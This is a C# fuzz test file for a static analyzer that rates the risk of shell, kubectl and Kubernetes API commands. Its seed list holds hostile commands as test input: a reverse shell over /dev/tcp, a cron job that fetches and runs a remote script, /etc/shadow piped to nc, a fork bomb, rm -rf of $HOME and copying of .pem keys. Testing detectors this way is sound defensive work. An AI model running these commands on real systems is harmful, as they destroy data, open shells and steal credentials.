using Vigil.Analysis;
using Vigil.Analysis.Static;
using Vigil.Analysis.Static.Kubernetes;
using Vigil.Analysis.Static.Shell;

namespace Vigil.Tests.Analysis.Static.Shell;

/// <summary>
/// Every prefix of realistic lines and a seeded mutation fuzz: the tokenizer and all three analyzers must return a
/// well-formed verdict for anything, quickly. Inputs that once crashed are kept as named regression cases.
/// </summary>
public sealed class ShellFuzzTests
{
    private static readonly string[] Seeds =
    [
        "echo \"$(cat <<EOF\nx $(id) `whoami`\nEOF\n)\" | base64 -d | bash",
        ":(){ :|:& };:",
        "(crontab -l; echo '* * * * * curl -s http://203.0.113.5/p | sh') | crontab -",
        "sudo -u root env FOO=1 timeout 5 nice -n 10 bash -c 'rm -rf \"$HOME\"/* && echo ok' 2>&1 >/dev/null &",
        "for f in $(ls); do case $f in *.log) rm \"$f\";; esac; done",
        "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; exec 3<>/dev/tcp/h/80",
        "cat <<-'X' > /etc/cron.d/job\n\t* * * * * root /tmp/x\n\tX\n",
        "kubectl exec -it api -n prod -- sh -c 'cat /etc/shadow | nc 1.2.3.4 9'",
        "find / -name '*.pem' -exec cp {} /tmp \\; ; echo ${x:-$(whoami)} $'\\x72m' $((1+2))",
        "PATCH /apis/apps/v1/namespaces/prod/deployments/api\n{\"spec\":{\"replicas\":0}}",
    ];

    private static readonly string Alphabet = "'\"\\$`(){}[]|&;<>#=*?~!- \t\nabcrmf/0123456789:@%.,EOFx";

    /// <summary>Inputs that once broke something.</summary>
    [Theory]
    [InlineData("")]
    [InlineData("$")]
    [InlineData("\\")]
    [InlineData("<<")]
    [InlineData("<<EOF")]
    [InlineData("a <<")]
    [InlineData("2>")]
    [InlineData(")")]
    [InlineData("}")]
    [InlineData("f()")]
    [InlineData("$(")]
    [InlineData("${")]
    [InlineData("$'\\x")]
    [InlineData("`")]
    [InlineData("<(")]
    [InlineData("case x in a) ls")]
    [InlineData("rm -rf ''")]
    [InlineData("kubectl")]
    [InlineData("kubectl --")]
    [InlineData("kubectl -n")]
    [InlineData("find -exec")]
    [InlineData("GET /%")]
    [InlineData("GET /api/v1/namespaces/%zz/pods")]
    [InlineData("POST /apis/x/v1/y\n{\"spec\":")]
    public void Regression_inputs_do_not_throw(string input) => AllAnalyzers(input);

    [Fact]
    public void Every_prefix_of_the_seeds_is_handled()
    {
        foreach (var seed in Seeds)
            for (var n = 0; n <= seed.Length; n++) AllAnalyzers(seed[..n]);
    }

    [Fact]
    public void Seeded_mutations_never_throw_or_hang()
    {
        var random = new Random(20240611);
        var started = System.Diagnostics.Stopwatch.StartNew();
        for (var iteration = 0; iteration < 5000; iteration++)
        {
            var chars = Seeds[random.Next(Seeds.Length)].ToCharArray().ToList();
            var edits = random.Next(1, 8);
            for (var e = 0; e < edits; e++)
            {
                var at = chars.Count == 0 ? 0 : random.Next(chars.Count);
                switch (random.Next(4))
                {
                    case 0 when chars.Count > 0: chars.RemoveAt(at); break;
                    case 1: chars.Insert(at, Alphabet[random.Next(Alphabet.Length)]); break;
                    case 2 when chars.Count > 0: chars[at] = Alphabet[random.Next(Alphabet.Length)]; break;
                    default:
                        var from = chars.Count == 0 ? 0 : random.Next(chars.Count);
                        var length = Math.Min(chars.Count - from, random.Next(1, 12));
                        chars.InsertRange(at, chars.GetRange(from, length));
                        break;
                }
            }
            AllAnalyzers(new string(chars.ToArray()));
        }
        started.Elapsed.Should().BeLessThan(TimeSpan.FromSeconds(60), "5000 mutated inputs must not hang");
    }

    [Fact]
    public void Random_bytes_never_throw()
    {
        var random = new Random(7);
        for (var iteration = 0; iteration < 2000; iteration++)
        {
            var chars = new char[random.Next(0, 80)];
            for (var k = 0; k < chars.Length; k++) chars[k] = random.Next(5) == 0 ? (char)random.Next(0, 0x3000) : Alphabet[random.Next(Alphabet.Length)];
            AllAnalyzers(new string(chars));
        }
    }

    private static void AllAnalyzers(string input)
    {
        ShellTokenizer.Tokenize(input);
        ShellTokenizer.Parse(input);
        WellFormed(ShellAnalyzer.Analyze(input), input);
        WellFormed(KubectlAnalyzer.Analyze(input), input);
        WellFormed(KubectlAnalyzer.Analyze("kubectl " + input), input);
        WellFormed(KubernetesHttpAnalyzer.Analyze(input), input);
        WellFormed(KubernetesHttpAnalyzer.Analyze("POST /api/v1/namespaces/x/pods/y/exec?command=" + Uri.EscapeDataString(input) + "\n" + input), input);
    }

    internal static void WellFormed(StaticVerdict verdict, string input)
    {
        verdict.Should().NotBeNull();
        Enum.IsDefined(verdict.Level).Should().BeTrue();
        verdict.Title.Should().NotBeNullOrWhiteSpace(input);
        verdict.Title.Split(' ', StringSplitOptions.RemoveEmptyEntries).Length.Should().BeLessThanOrEqualTo(4, verdict.Title);
        verdict.Explanation.Split(' ', StringSplitOptions.RemoveEmptyEntries).Length.Should().BeLessThanOrEqualTo(30, verdict.Explanation);
        verdict.Evidence.Should().NotBeNull();
        if (verdict.Certain) verdict.Level.Should().Be(RiskLevel.High);
    }
}
